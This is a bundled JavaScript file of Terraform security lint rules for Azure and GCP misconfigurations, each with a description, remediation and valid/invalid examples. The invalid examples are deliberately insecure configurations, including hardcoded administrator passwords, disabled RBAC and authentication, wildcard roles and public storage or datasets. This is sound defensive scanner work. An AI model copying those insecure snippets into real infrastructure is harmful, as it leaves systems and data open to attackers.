  addon_profile {
    kube_dashboard {
      enabled = true
    }
  }
}
`,
        errors: [{ line: 9, column: 7 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/azure-aks-rbac-disabled.ts
var azure_aks_rbac_disabled_default = defineRule({
  meta: {
    id: "azure-aks-rbac-disabled",
    title: "AKS cluster with Kubernetes RBAC disabled",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_kubernetes_cluster"],
    description: "Without Kubernetes role-based access control every authenticated user and service account is authorised for everything in the cluster: any compromised pod token can read all secrets and take over the nodes. RBAC cannot be turned on later without recreating the cluster.",
    remediation: "Set `role_based_access_control_enabled = true` (the default) and grant access through Roles and RoleBindings, ideally with Azure AD integration (`azure_active_directory_role_based_access_control`).",
    precision: "very-high",
    cwe: ["CWE-862"],
    tags: ["azure", "aks", "kubernetes", "rbac", "authorization"],
    references: [
      "https://learn.microsoft.com/azure/aks/concepts-identity",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/kubernetes_cluster#role_based_access_control_enabled"
    ]
  },
  check(cluster, { report }) {
    const message = `AKS cluster ${cluster.name} has Kubernetes RBAC disabled: every authenticated identity is authorised for everything`;
    if (cluster.attributes.role_based_access_control_enabled === false) report({ at: ["role_based_access_control_enabled"], message });
    asList(cluster.attributes.role_based_access_control).forEach((block, index) => {
      if (isObject(block) && block.enabled === false) report({ at: ["role_based_access_control", index, "enabled"], message });
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_kubernetes_cluster" "shop" {
  name                              = "aks-shop"
  location                          = "westeurope"
  resource_group_name               = "rg-shop"
  dns_prefix                        = "shop"
  role_based_access_control_enabled = true

  default_node_pool {
    name       = "system"
    vm_size    = "Standard_D4s_v5"
    node_count = 3
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_kubernetes_cluster" "shop" {
  name                              = "aks-shop"
  location                          = "westeurope"
  resource_group_name               = "rg-shop"
  dns_prefix                        = "shop"
  role_based_access_control_enabled = false
}
`,
        errors: [{ line: 6, column: 3 }]
      },
      {
        name: "azurerm 2.x block",
        filename: "main.tf",
        code: `resource "azurerm_kubernetes_cluster" "shop" {
  name                = "aks-shop"
  location            = "westeurope"
  resource_group_name = "rg-shop"
  dns_prefix          = "shop"

  role_based_access_control {
    enabled = false
  }
}
`,
        errors: [{ line: 8, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/support/azure-app-service.ts
var APP_SERVICE_TYPES = [
  "azurerm_app_service",
  "azurerm_app_service_slot",
  "azurerm_function_app",
  "azurerm_linux_web_app",
  "azurerm_windows_web_app",
  "azurerm_linux_web_app_slot",
  "azurerm_windows_web_app_slot",
  "azurerm_linux_function_app",
  "azurerm_windows_function_app"
];
function siteConfigOf(attributes) {
  const config = asList(attributes.site_config)[0];
  return isObject(config) ? { config, index: 0 } : void 0;
}

// packages/rules/src/terraform/iam/azure-app-service-authentication-disabled.ts
var azure_app_service_authentication_disabled_default = defineRule({
  meta: {
    id: "azure-app-service-authentication-disabled",
    title: "App Service authentication explicitly disabled",
    severity: "low",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: APP_SERVICE_TYPES,
    description: "The app declares App Service Authentication but turns it off, so requests reach the application without the platform checking who sends them. Unless the application authenticates users itself, its pages and APIs are open to anyone who can reach it.",
    remediation: "Enable `auth_settings_v2 { auth_enabled = true }` (or `auth_settings { enabled = true }`) with an identity provider such as Microsoft Entra ID, or remove the block if the app authenticates users itself.",
    precision: "medium",
    cwe: ["CWE-306"],
    frameworks: { "CIS Microsoft Azure Foundations 2.0": ["9.1"] },
    tags: ["azure", "app-service", "authentication"],
    references: [
      "https://learn.microsoft.com/azure/app-service/overview-authentication-authorization",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_web_app#auth_settings_v2"
    ]
  },
  check(app, { report }) {
    const message = `App ${app.name} has App Service authentication disabled`;
    asList(app.attributes.auth_settings).forEach((settings, index) => {
      if (isObject(settings) && settings.enabled === false) report({ at: ["auth_settings", index, "enabled"], message });
    });
    asList(app.attributes.auth_settings_v2).forEach((settings, index) => {
      if (isObject(settings) && settings.auth_enabled === false) report({ at: ["auth_settings_v2", index, "auth_enabled"], message });
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_app_service" "hr" {
  name                = "app-hr"
  location            = "westeurope"
  resource_group_name = "rg-hr"
  app_service_plan_id = azurerm_app_service_plan.hr.id
  https_only          = true

  auth_settings {
    enabled          = true
    default_provider = "AzureActiveDirectory"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_app_service" "hr" {
  name                = "app-hr"
  location            = "westeurope"
  resource_group_name = "rg-hr"
  app_service_plan_id = azurerm_app_service_plan.hr.id
  https_only          = true

  auth_settings {
    enabled = false
  }
}
`,
        errors: [{ line: 9, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/support/network.ts
var INTERNET_CIDRS = /* @__PURE__ */ new Set(["0.0.0.0/0", "::/0", "0.0.0.0", "::", "*", "internet", "any", "0.0.0.0/0,::/0"]);
function isInternetCidr(value) {
  return typeof value === "string" && INTERNET_CIDRS.has(value.trim().toLowerCase());
}
var SENSITIVE_PORTS = /* @__PURE__ */ new Map([
  [20, "FTP data"],
  [21, "FTP"],
  [22, "SSH"],
  [23, "Telnet"],
  [135, "RPC"],
  [445, "SMB"],
  [1433, "SQL Server"],
  [1521, "Oracle"],
  [2375, "Docker API"],
  [2379, "etcd"],
  [3306, "MySQL"],
  [3389, "RDP"],
  [5432, "PostgreSQL"],
  [5601, "Kibana"],
  [5900, "VNC"],
  [5985, "WinRM"],
  [5986, "WinRM"],
  [6379, "Redis"],
  [6443, "Kubernetes API"],
  [8020, "HDFS"],
  [9042, "Cassandra"],
  [9200, "Elasticsearch"],
  [9300, "Elasticsearch"],
  [10250, "kubelet"],
  [11211, "Memcached"],
  [27017, "MongoDB"]
]);
function sensitivePortsIn(from, to) {
  const found = [];
  for (const [port, name] of SENSITIVE_PORTS) if (port >= from && port <= to) found.push({ port, name });
  return found;
}
function isAllProtocols(protocol) {
  return protocol === "-1" || protocol === -1 || protocol === "all" || protocol === "*";
}
function parsePortRange(value) {
  if (typeof value === "number" && Number.isInteger(value)) return { from: value, to: value };
  if (typeof value !== "string") return void 0;
  const text = value.trim();
  if (text === "*") return { from: 0, to: 65535 };
  const match = /^(\d+)(?:\s*-\s*(\d+))?$/.exec(text);
  if (!match) return void 0;
  const from = Number(match[1]);
  return { from, to: match[2] ? Number(match[2]) : from };
}

// packages/rules/src/support/azure.ts
var PORTLESS_PROTOCOLS = /* @__PURE__ */ new Set(["icmp", "esp", "ah"]);
function openInboundRules(resource) {
  if (resource.type === "azurerm_network_security_rule") {
    const open = openInbound(resource.attributes, []);
    return open ? [{ ...open, label: resource.name }] : [];
  }
  return asList(resource.attributes.security_rule).flatMap((rule, index) => {
    if (!isObject(rule)) return [];
    const open = openInbound(rule, ["security_rule", index]);
    if (!open) return [];
    return [{ ...open, label: typeof rule.name === "string" ? rule.name : `security_rule ${index + 1}` }];
  });
}
var NETWORK_SECURITY_TYPES = ["azurerm_network_security_group", "azurerm_network_security_rule"];
function openInbound(rule, base) {
  if (!equalsIgnoringCase(rule.direction, "inbound") || !equalsIgnoringCase(rule.access, "allow")) return void 0;
  const protocol = rule.protocol;
  if (typeof protocol !== "string" || PORTLESS_PROTOCOLS.has(protocol.toLowerCase())) return void 0;
  let source;
  if (isInternetCidr(rule.source_address_prefix)) source = { at: [...base, "source_address_prefix"], value: rule.source_address_prefix };
  else if (Array.isArray(rule.source_address_prefixes)) {
    const index = rule.source_address_prefixes.findIndex((prefix) => isInternetCidr(prefix));
    if (index >= 0) source = { at: [...base, "source_address_prefixes", index], value: rule.source_address_prefixes[index] };
  }
  if (!source) return void 0;
  const specs = [];
  if (rule.destination_port_range !== void 0 && rule.destination_port_range !== null) specs.push(rule.destination_port_range);
  if (Array.isArray(rule.destination_port_ranges)) specs.push(...rule.destination_port_ranges);
  else if (isUnknown(rule.destination_port_ranges)) return void 0;
  const ranges = [];
  for (const spec of specs) {
    const range = parsePortRange(spec);
    if (!range) return void 0;
    ranges.push(range);
  }
  if (ranges.length === 0) return void 0;
  return { at: source.at, source: source.value, ranges };
}
function equalsIgnoringCase(value, expected) {
  return typeof value === "string" && value.toLowerCase() === expected;
}
function tlsVersionOf(value) {
  if (typeof value !== "string") return void 0;
  const text = value.trim();
  if (/^(tls)?enforcementdisabled$|^disabled$/i.test(text)) return 0;
  const match = /^(?:tls)?\s*(\d)[._](\d)$/i.exec(text);
  return match ? Number(`${match[1]}.${match[2]}`) : void 0;
}
function allowsTlsBelow12(value) {
  const version = tlsVersionOf(value);
  return version !== void 0 && version < 1.2;
}
function isLiteralSecret(value) {
  return typeof value === "string" && value.trim().length > 0;
}

// packages/rules/src/terraform/iam/azure-hardcoded-admin-password.ts
var PASSWORD_PATHS = {
  azurerm_linux_virtual_machine: [["admin_password"]],
  azurerm_windows_virtual_machine: [["admin_password"]],
  azurerm_linux_virtual_machine_scale_set: [["admin_password"]],
  azurerm_windows_virtual_machine_scale_set: [["admin_password"]],
  azurerm_virtual_machine: [["os_profile", 0, "admin_password"]],
  azurerm_sql_server: [["administrator_login_password"]],
  azurerm_mssql_server: [["administrator_login_password"]],
  azurerm_mssql_managed_instance: [["administrator_login_password"]],
  azurerm_mysql_server: [["administrator_login_password"]],
  azurerm_mysql_flexible_server: [["administrator_password"]],
  azurerm_postgresql_server: [["administrator_login_password"]],
  azurerm_postgresql_flexible_server: [["administrator_password"]],
  azurerm_mariadb_server: [["administrator_login_password"]],
  azurerm_synapse_workspace: [["sql_administrator_login_password"]]
};
var azure_hardcoded_admin_password_default = defineRule({
  meta: {
    id: "azure-hardcoded-admin-password",
    title: "Hardcoded administrator password in a VM or database server",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: Object.keys(PASSWORD_PATHS),
    description: "The administrator password is written into the configuration as a literal. It is then readable by everyone with access to the repository, its history, forks and CI logs, and it stays valid long after it leaks.",
    remediation: "Generate the password (`random_password`) or read it from Key Vault (`azurerm_key_vault_secret` data source) or a sensitive variable, and rotate the password that was committed.",
    precision: "very-high",
    cwe: ["CWE-798"],
    tags: ["azure", "secrets", "hardcoded-secret", "password"],
    references: [
      "https://learn.microsoft.com/azure/key-vault/secrets/about-secrets",
      "https://developer.hashicorp.com/terraform/language/values/variables#suppressing-values-in-cli-output"
    ]
  },
  check(resource, { report }) {
    for (const path of PASSWORD_PATHS[resource.type]) {
      if (!isLiteralSecret(getPath(resource.attributes, path))) continue;
      const attribute = String(path[path.length - 1]);
      report({ at: path, message: `${resource.name} has a hardcoded administrator password in ${attribute}` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "random_password" "sql_admin" {
  length  = 32
  special = true
}

resource "azurerm_mssql_server" "sales" {
  name                         = "sql-sales"
  resource_group_name          = "rg-sales"
  location                     = "westeurope"
  version                      = "12.0"
  administrator_login          = "sqladmin"
  administrator_login_password = random_password.sql_admin.result
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_mssql_server" "sales" {
  name                         = "sql-sales"
  resource_group_name          = "rg-sales"
  location                     = "westeurope"
  version                      = "12.0"
  administrator_login          = "sqladmin"
  administrator_login_password = "Winter2024!"
}
`,
        errors: [{ line: 7, column: 3 }]
      },
      {
        name: "Windows VM",
        filename: "main.tf",
        code: `resource "azurerm_windows_virtual_machine" "jump" {
  name                  = "vm-jump"
  resource_group_name   = "rg-ops"
  location              = "westeurope"
  size                  = "Standard_B2ms"
  admin_username        = "opsadmin"
  admin_password        = "P@ssw0rd1234"
  network_interface_ids = [azurerm_network_interface.jump.id]
}
`,
        errors: [{ line: 7, column: 3, messageIncludes: "admin_password" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/azure-linux-vm-password-authentication.ts
var azure_linux_vm_password_authentication_default = defineRule({
  meta: {
    id: "azure-linux-vm-password-authentication",
    title: "Linux VM allows SSH password authentication",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_linux_virtual_machine", "azurerm_linux_virtual_machine_scale_set", "azurerm_virtual_machine"],
    description: "`disable_password_authentication = false` lets users log in over SSH with a password instead of a key. Passwords can be guessed, sprayed and reused; SSH keys cannot be brute-forced in practice.",
    remediation: "Set `disable_password_authentication = true` (the default for `azurerm_linux_virtual_machine`) and provide an `admin_ssh_key`.",
    precision: "very-high",
    cwe: ["CWE-287"],
    tags: ["azure", "vm", "ssh", "authentication", "password"],
    references: [
      "https://learn.microsoft.com/azure/virtual-machines/linux/create-ssh-keys-detailed",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_virtual_machine#disable_password_authentication"
    ]
  },
  check(vm, { report }) {
    const message = `Linux VM ${vm.name} allows SSH password authentication (disable_password_authentication = false)`;
    if (vm.type === "azurerm_virtual_machine") {
      asList(vm.attributes.os_profile_linux_config).forEach((config, index) => {
        if (isObject(config) && config.disable_password_authentication === false) {
          report({ at: ["os_profile_linux_config", index, "disable_password_authentication"], message });
        }
      });
    } else if (vm.attributes.disable_password_authentication === false) {
      report({ at: ["disable_password_authentication"], message });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_linux_virtual_machine" "build" {
  name                  = "vm-build"
  resource_group_name   = "rg-build"
  location              = "westeurope"
  size                  = "Standard_B2s"
  admin_username        = "azureuser"
  network_interface_ids = [azurerm_network_interface.build.id]

  admin_ssh_key {
    username   = "azureuser"
    public_key = file("build.pub")
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_linux_virtual_machine" "build" {
  name                            = "vm-build"
  resource_group_name             = "rg-build"
  location                        = "westeurope"
  size                            = "Standard_B2s"
  admin_username                  = "azureuser"
  admin_password                  = var.admin_password
  disable_password_authentication = false
  network_interface_ids           = [azurerm_network_interface.build.id]
}
`,
        errors: [{ line: 8, column: 3 }]
      },
      {
        name: "classic virtual machine resource",
        filename: "main.tf",
        code: `resource "azurerm_virtual_machine" "legacy" {
  name                  = "vm-legacy"
  location              = "westeurope"
  resource_group_name   = "rg-legacy"
  vm_size               = "Standard_B2s"
  network_interface_ids = [azurerm_network_interface.legacy.id]

  os_profile_linux_config {
    disable_password_authentication = false
  }
}
`,
        errors: [{ line: 9, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/azure-role-definition-wildcard-actions.ts
var azure_role_definition_wildcard_actions_default = defineRule({
  meta: {
    id: "azure-role-definition-wildcard-actions",
    title: 'Custom role grants all actions (wildcard "*")',
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_role_definition"],
    description: 'A custom role with `actions = ["*"]` allows every management operation within its assignable scopes, including changing role assignments: it is an owner role under another name, and whoever holds it can grant themselves anything at that scope.',
    remediation: "List only the actions the role needs (for example `Microsoft.Compute/virtualMachines/read`), or assign a narrower built-in role.",
    precision: "very-high",
    cwe: ["CWE-269"],
    tags: ["azure", "rbac", "custom-role", "least-privilege", "iam-wildcard"],
    references: [
      "https://learn.microsoft.com/azure/role-based-access-control/custom-roles",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/role_definition"
    ]
  },
  check(role, { report }) {
    asList(role.attributes.permissions).forEach((permission, index) => {
      if (!isObject(permission) || !Array.isArray(permission.actions)) return;
      const wildcard = permission.actions.indexOf("*");
      if (wildcard < 0) return;
      report({ at: ["permissions", index, "actions", wildcard], message: `Custom role ${role.name} grants all actions ("*"): full administrator access at its assignable scopes` });
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_role_definition" "vm_operator" {
  name  = "vm-operator"
  scope = data.azurerm_subscription.current.id

  permissions {
    actions = [
      "Microsoft.Compute/virtualMachines/read",
      "Microsoft.Compute/virtualMachines/start/action",
      "Microsoft.Compute/virtualMachines/restart/action",
    ]
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_role_definition" "platform" {
  name  = "platform-team"
  scope = data.azurerm_subscription.current.id

  permissions {
    actions     = ["*"]
    not_actions = []
  }

  assignable_scopes = [data.azurerm_subscription.current.id]
}
`,
        errors: [{ line: 6, column: 20 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/azure-storage-account-public-blob-access.ts
var PUBLIC_ACCESS_ATTRIBUTES = ["allow_nested_items_to_be_public", "allow_blob_public_access"];
var azure_storage_account_public_blob_access_default = defineRule({
  meta: {
    id: "azure-storage-account-public-blob-access",
    title: "Storage account allows public (anonymous) blob access",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_storage_account"],
    description: "With anonymous access allowed on the account, any container in it can be switched to public read with one setting, and its blobs are then readable by anyone on the internet without a key or token. Most data leaks from Azure Storage start this way.",
    remediation: "Set `allow_nested_items_to_be_public = false` (`allow_blob_public_access = false` on azurerm provider 2.x) and share data through SAS tokens, Azure AD authorisation or a CDN in front of a private container.",
    precision: "very-high",
    cwe: ["CWE-284"],
    tags: ["azure", "storage", "public-access"],
    references: [
      "https://learn.microsoft.com/azure/storage/blobs/anonymous-read-access-prevent",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account#allow_nested_items_to_be_public"
    ]
  },
  check(account, { report }) {
    for (const attribute of PUBLIC_ACCESS_ATTRIBUTES) {
      if (account.attributes[attribute] === true) {
        report({ at: [attribute], message: `Storage account ${account.name} allows public anonymous access to blobs (${attribute} = true)` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_storage_account" "reports" {
  name                            = "contosoreports"
  resource_group_name             = azurerm_resource_group.data.name
  location                        = "westeurope"
  account_tier                    = "Standard"
  account_replication_type        = "ZRS"
  allow_nested_items_to_be_public = false
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_storage_account" "reports" {
  name                            = "contosoreports"
  resource_group_name             = azurerm_resource_group.data.name
  location                        = "westeurope"
  account_tier                    = "Standard"
  account_replication_type        = "ZRS"
  allow_nested_items_to_be_public = true
}
`,
        errors: [{ line: 7, column: 3 }]
      },
      {
        name: "azurerm 2.x attribute",
        filename: "main.tf",
        code: `resource "azurerm_storage_account" "legacy" {
  name                     = "contosolegacy"
  resource_group_name      = "rg-legacy"
  location                 = "westeurope"
  account_tier             = "Standard"
  account_replication_type = "LRS"
  allow_blob_public_access = true
}
`,
        errors: [{ line: 7, column: 3, messageIncludes: "allow_blob_public_access" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/azure-storage-container-public-access.ts
var PUBLIC_LEVELS = {
  blob: "anyone can read its blobs by URL",
  container: "anyone can list and read its blobs"
};
var azure_storage_container_public_access_default = defineRule({
  meta: {
    id: "azure-storage-container-public-access",
    title: "Storage container is publicly accessible (anonymous read)",
    severity: "critical",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_storage_container"],
    description: '`container_access_type = "blob"` or `"container"` grants anonymous public read access: whatever is uploaded to the container can be downloaded by anyone on the internet, and with `container` the blob names can be listed as well.',
    remediation: 'Set `container_access_type = "private"` and hand out access through short-lived SAS tokens or Azure AD roles; serve public web content through a CDN or a static website deliberately set up for it.',
    precision: "high",
    cwe: ["CWE-284", "CWE-200"],
    tags: ["azure", "storage", "public-access"],
    references: [
      "https://learn.microsoft.com/azure/storage/blobs/anonymous-read-access-configure",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_container#container_access_type"
    ]
  },
  check(container, { graph, report }) {
    const level = container.attributes.container_access_type;
    if (typeof level !== "string" || !(level in PUBLIC_LEVELS)) return;
    const accountForbids = graph.targets(container.id, "references").some(
      (account) => account.type === "azurerm_storage_account" && (account.attributes.allow_nested_items_to_be_public === false || account.attributes.allow_blob_public_access === false)
    );
    if (accountForbids) return;
    report({ at: ["container_access_type"], message: `Storage container ${container.name} is publicly accessible: ${PUBLIC_LEVELS[level]} (container_access_type = "${level}")` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_storage_container" "invoices" {
  name                  = "invoices"
  storage_account_name  = azurerm_storage_account.billing.name
  container_access_type = "private"
}
`
      },
      {
        name: "the account forbids anonymous access",
        filename: "main.tf",
        code: `resource "azurerm_storage_account" "billing" {
  name                            = "contosobilling"
  resource_group_name             = "rg-billing"
  location                        = "westeurope"
  account_tier                    = "Standard"
  account_replication_type        = "LRS"
  allow_nested_items_to_be_public = false
}

resource "azurerm_storage_container" "invoices" {
  name                  = "invoices"
  storage_account_name  = azurerm_storage_account.billing.name
  container_access_type = "blob"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_storage_container" "invoices" {
  name                  = "invoices"
  storage_account_name  = azurerm_storage_account.billing.name
  container_access_type = "container"
}
`,
        errors: [{ line: 4, column: 3, messageIncludes: "list" }]
      }
    ]
  }
});

// packages/rules/src/support/gcp.ts
var PUBLIC_MEMBERS = ["allUsers", "allAuthenticatedUsers"];
function isPublicMember(value) {
  return typeof value === "string" && PUBLIC_MEMBERS.includes(value.trim());
}
function isDefaultComputeServiceAccount(value) {
  return typeof value === "string" && (value === "default" || /-compute@developer\.gserviceaccount\.com$/i.test(value.trim()));
}
function metadataFlag(value) {
  if (typeof value === "boolean") return value;
  if (typeof value === "number") return value === 1 ? true : value === 0 ? false : void 0;
  if (typeof value !== "string") return void 0;
  const text = value.trim().toLowerCase();
  if (["true", "1", "yes", "y", "on"].includes(text)) return true;
  if (["false", "0", "no", "n", "off"].includes(text)) return false;
  return void 0;
}
var METADATA_TYPES = [
  "google_compute_instance",
  "google_compute_instance_template",
  "google_compute_region_instance_template",
  "google_compute_project_metadata",
  "google_compute_project_metadata_item"
];
function metadataEntry(resource, key) {
  const attributes = resource.attributes;
  if (resource.type === "google_compute_project_metadata_item") {
    return attributes.key === key && attributes.value !== void 0 ? { at: ["value"], value: attributes.value } : void 0;
  }
  const metadata = attributes.metadata;
  if (isUnknown(metadata)) return { at: ["metadata"], value: metadata };
  if (!isObject(metadata) || !Object.prototype.hasOwnProperty.call(metadata, key)) return void 0;
  return { at: ["metadata", key], value: metadata[key] };
}
function projectMetadataEnables(resources, key) {
  for (const resource of resources) {
    const entry = metadataEntry(resource, key);
    if (entry && metadataFlag(entry.value) === true) return true;
  }
  return false;
}
function durationSeconds(value) {
  if (typeof value !== "string") return void 0;
  const match = /^(\d+(?:\.\d+)?)s$/.exec(value.trim());
  return match ? Number(match[1]) : void 0;
}
var PORT_PROTOCOLS = /* @__PURE__ */ new Set(["tcp", "udp", "sctp", "6", "17", "132"]);
function openFirewallIngress(firewall) {
  const attributes = firewall.attributes;
  const direction = attributes.direction ?? "INGRESS";
  if (direction !== "INGRESS" || attributes.disabled !== void 0 && attributes.disabled !== false) return void 0;
  const sources = attributes.source_ranges;
  if (!Array.isArray(sources)) return void 0;
  const index = sources.findIndex((cidr) => isInternetCidr(cidr));
  if (index < 0) return void 0;
  const allows = attributes.allow;
  if (isUnknown(allows)) return void 0;
  const ranges = [];
  for (const allow of asList(allows)) {
    if (!isObject(allow) || typeof allow.protocol !== "string") return void 0;
    const protocol = allow.protocol.toLowerCase();
    if (protocol === "all") {
      ranges.push({ from: 0, to: 65535 });
      continue;
    }
    if (!PORT_PROTOCOLS.has(protocol)) continue;
    const ports = allow.ports;
    if (ports === void 0 || ports === null || Array.isArray(ports) && ports.length === 0) {
      ranges.push({ from: 0, to: 65535 });
      continue;
    }
    if (!Array.isArray(ports)) return void 0;
    for (const port of ports) {
      const range = parsePortRange(port);
      if (!range) return void 0;
      ranges.push(range);
    }
  }
  if (ranges.length === 0) return void 0;
  return { at: ["source_ranges", index], cidr: sources[index], ranges };
}
var FULL_ACCESS_SCOPES = /* @__PURE__ */ new Set(["cloud-platform", "https://www.googleapis.com/auth/cloud-platform"]);
function instanceServiceAccount(instance) {
  const block = asList(instance.attributes.service_account)[0];
  if (!isObject(block)) return void 0;
  const email = block.email;
  if (isUnknown(email) || isUnknown(block.scopes)) return void 0;
  const scopes = Array.isArray(block.scopes) ? block.scopes : [];
  return {
    at: ["service_account", 0],
    isDefault: email === void 0 || email === null || isDefaultComputeServiceAccount(email),
    fullScopeIndex: scopes.findIndex((scope) => typeof scope === "string" && FULL_ACCESS_SCOPES.has(scope))
  };
}
function sqlIpConfiguration(instance) {
  const settings = instance.attributes.settings;
  if (isUnknown(settings)) return "unknown";
  const first = asList(settings)[0];
  if (first === void 0) return "missing";
  if (!isObject(first) || isUnknown(first.ip_configuration)) return "unknown";
  const config = asList(first.ip_configuration)[0];
  if (config === void 0) return "missing";
  if (!isObject(config)) return "unknown";
  return { config, at: ["settings", 0, "ip_configuration", 0] };
}
function openAuthorizedNetwork(config) {
  return asList(config.authorized_networks).findIndex((network) => isObject(network) && isInternetCidr(network.value));
}

// packages/rules/src/terraform/iam/gcp-bigquery-dataset-public.ts
var IAM_MEMBER_TYPES = ["google_bigquery_dataset_iam_member", "google_bigquery_table_iam_member"];
var IAM_BINDING_TYPES = ["google_bigquery_dataset_iam_binding", "google_bigquery_table_iam_binding"];
var gcp_bigquery_dataset_public_default = defineRule({
  meta: {
    id: "gcp-bigquery-dataset-public",
    title: "BigQuery dataset or table publicly accessible (allUsers / allAuthenticatedUsers)",
    severity: "critical",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["google_bigquery_dataset", "google_bigquery_dataset_access", ...IAM_MEMBER_TYPES, ...IAM_BINDING_TYPES],
    description: "Access is granted to `allUsers` (anyone, anonymously) or `allAuthenticatedUsers` (anyone with a Google account), so the dataset's tables can be queried and exported by the public.",
    remediation: "Remove the public grant and give roles to specific users, groups or service accounts; share data externally through authorized views or Analytics Hub.",
    precision: "very-high",
    cwe: ["CWE-284", "CWE-200"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["7.1"] },
    tags: ["gcp", "bigquery", "public-access", "allUsers"],
    references: [
      "https://cloud.google.com/bigquery/docs/control-access-to-resources-iam",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/bigquery_dataset#access"
    ]
  },
  check(resource, { report }) {
    const attributes = resource.attributes;
    const message = (member) => `${resource.name} makes BigQuery data public: access granted to ${member}`;
    if (resource.type === "google_bigquery_dataset") {
      asList(attributes.access).forEach((access, index) => {
        if (!isObject(access)) return;
        for (const key of ["special_group", "iam_member"]) {
          if (isPublicMember(access[key])) report({ at: ["access", index, key], message: message(access[key]) });
        }
      });
    } else if (resource.type === "google_bigquery_dataset_access") {
      for (const key of ["special_group", "iam_member"]) {
        if (isPublicMember(attributes[key])) report({ at: [key], message: message(attributes[key]) });
      }
    } else if (IAM_MEMBER_TYPES.includes(resource.type)) {
      if (isPublicMember(attributes.member)) report({ at: ["member"], message: message(attributes.member) });
    } else if (Array.isArray(attributes.members)) {
      attributes.members.forEach((member, index) => {
        if (isPublicMember(member)) report({ at: ["members", index], message: message(member) });
      });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_bigquery_dataset" "sales" {
  dataset_id = "sales"
  location   = "EU"

  access {
    role          = "OWNER"
    special_group = "projectOwners"
  }

  access {
    role           = "READER"
    group_by_email = "analysts@example.com"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_bigquery_dataset" "sales" {
  dataset_id = "sales"
  location   = "EU"

  access {
    role          = "READER"
    special_group = "allAuthenticatedUsers"
  }
}
`,
        errors: [{ line: 7, column: 5 }]
      },
      {
        filename: "main.tf",
        code: `resource "google_bigquery_dataset_iam_member" "public" {
  dataset_id = google_bigquery_dataset.sales.dataset_id
  role       = "roles/bigquery.dataViewer"
  member     = "allUsers"
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-compute-block-project-ssh-keys.ts
var INSTANCE_TYPES = ["google_compute_instance", "google_compute_instance_template", "google_compute_region_instance_template"];
var PROJECT_METADATA_TYPES = ["google_compute_project_metadata", "google_compute_project_metadata_item"];
var gcp_compute_block_project_ssh_keys_default = defineRule({
  meta: {
    id: "gcp-compute-block-project-ssh-keys",
    title: "Compute Engine instance does not block project-wide SSH keys",
    severity: "low",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: INSTANCE_TYPES,
    description: "Without `block-project-ssh-keys = TRUE`, any SSH key added to project metadata opens every such instance in the project, so one leaked or forgotten project key reaches all of them. With OS Login on, metadata keys are ignored and this does not apply.",
    remediation: 'Set `block-project-ssh-keys = "TRUE"` in the instance metadata, or better, enable OS Login for the project.',
    precision: "medium",
    cwe: ["CWE-287"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["4.3"] },
    tags: ["gcp", "compute", "ssh", "ssh-keys", "authentication"],
    references: [
      "https://cloud.google.com/compute/docs/connect/restrict-ssh-keys#block-keys",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#metadata"
    ]
  },
  check(instance, { graph, report }) {
    const block = metadataEntry(instance, "block-project-ssh-keys");
    if (block && (isUnknown(block.value) || metadataFlag(block.value) !== false)) return;
    const osLogin = metadataEntry(instance, "enable-oslogin");
    if (osLogin && (isUnknown(osLogin.value) || metadataFlag(osLogin.value) === true)) return;
    if (!osLogin && projectMetadataEnables(PROJECT_METADATA_TYPES.flatMap((type) => graph.ofType(type)), "enable-oslogin")) return;
    if (block) report({ at: block.at, message: `${instance.name} accepts project-wide SSH keys (block-project-ssh-keys = ${JSON.stringify(block.value)})` });
